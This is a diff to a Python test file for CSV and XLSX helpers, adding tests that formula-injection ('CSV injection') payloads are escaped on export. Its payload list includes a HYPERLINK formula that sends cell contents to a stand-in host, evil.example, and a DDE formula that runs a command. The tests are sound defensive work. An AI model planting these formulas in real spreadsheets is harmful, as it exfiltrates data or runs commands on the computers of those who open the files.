@@ -1,4 +1,5 @@
 """CSV and XLSX helpers shared by reports, imports and exports."""
+import csv
 import io
 from datetime import date
 
@@ -34,3 +35,31 @@ def test_unreadable_uploads_get_a_message(app):
         read_rows("a.pdf", b"x")
     with pytest.raises(SpreadsheetError):
         read_rows("a.csv", b"\n\n")
+
+
+# --- Formula injection (OWASP "CSV injection"): every text cell beginning with = + - @, tab or CR ---
+
+PAYLOADS = ["=1+1", '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")', "+1+1", "-1+1", "@SUM(A1:A2)",
+            "\t=1+1", "\r=1+1", "=cmd|' /C calc'!A0"]
+
+
+def test_csv_text_cells_that_start_a_formula_are_escaped(app):
+    data = csv_bytes(["=Tiêu đề"], [[p] for p in PAYLOADS] + [["H-001"], [-5], ["Bình thường"]])
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    assert rows[0] == ["'=Tiêu đề"]
+    assert [r[0] for r in rows[1:len(PAYLOADS) + 1]] == ["'" + p for p in PAYLOADS]
+    assert [r[0] for r in rows[len(PAYLOADS) + 1:]] == ["H-001", "-5", "Bình thường"]  # numbers stay numbers
+    # and an import of the same file reads the values as they were typed
+    assert [cells[0] for _n, cells in read_rows("x.csv", data)[1:len(PAYLOADS) + 1]] == [p.strip() for p in PAYLOADS]
+
+
+def test_xlsx_text_cells_that_start_a_formula_are_text_not_formulas(app):
+    data = xlsx_bytes([Sheet("Hộ", ["=Mã hộ", "Số"], [[p, -5] for p in PAYLOADS])])
+    ws = load_workbook(io.BytesIO(data))["Hộ"]
+    cells = [ws.cell(row=r, column=1) for r in range(1, len(PAYLOADS) + 2)]
+    for cell in cells:
+        assert cell.data_type == "s", (cell.coordinate, cell.value, cell.data_type)
+        assert cell.quotePrefix, cell.coordinate  # Excel shows it as typed and keeps it text when edited
+    assert [c.value for c in cells] == ["=Mã hộ", *(p.replace("\r", "\n") for p in PAYLOADS)]  # XML: CR -> LF
+    assert ws.cell(row=2, column=2).value == -5 and ws.cell(row=2, column=2).data_type == "n"
+    assert [cells[0] for _n, cells in read_rows("x.xlsx", data)[1:]] == [p.strip() for p in PAYLOADS]
